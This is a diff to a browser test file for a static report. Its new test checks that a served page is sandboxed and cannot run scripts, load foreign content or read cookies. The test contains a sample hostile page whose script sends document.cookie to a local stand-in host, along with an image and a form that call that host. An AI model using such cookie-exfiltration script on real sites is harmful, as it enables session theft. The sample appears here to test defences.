@@ -343,9 +343,34 @@ def test_a_narrow_screen_needs_no_sideways_scrolling(page: Any) -> None:
 
 
 def test_served_over_http_it_loads_nothing_else(browser: Any, dataset: Path) -> None:
-    with make_server(dataset / "report") as server:
+    with make_server((dataset / "report" / "index.html").read_bytes()) as server:
         threading.Thread(target=server.serve_forever, daemon=True).start()
         for page in opened(browser, f"http://127.0.0.1:{server.server_port}/"):
             hover(page, 3, 3)
             assert chain(page)
+        server.shutdown()
+
+
+def test_a_foreign_page_runs_nothing_even_if_it_were_served(browser: Any) -> None:
+    """No script, form or picture from elsewhere; cookies of other ports are not its own."""
+    foreign = b"""<!doctype html><title>quiet</title><body onload="document.title='loud'">
+<script>document.title='loud'; location='http://127.0.0.1:9/?'+document.cookie</script>
+<img src="http://127.0.0.1:9/x">
+<form action="http://127.0.0.1:9/"><input id="go" type="submit"></form>"""
+    with make_server(foreign) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        url = f"http://127.0.0.1:{server.server_port}/"
+        context = browser.new_context()
+        context.add_cookies([{"name": "token", "value": "secret", "url": "http://127.0.0.1/"}])
+        page, requests = context.new_page(), []
+        page.on("request", lambda request: requests.append(request.url))
+        page.goto(url)
+        page.locator("#go").click()
+        page.wait_for_timeout(300)
+        assert page.title() == "quiet"
+        assert page.url == url
+        assert set(requests) <= {url, "http://127.0.0.1:9/x", f"{url}favicon.ico"}
+        with pytest.raises(sync_api.Error, match="sandboxed"):
+            page.evaluate("document.cookie")
+        context.close()
         server.shutdown()
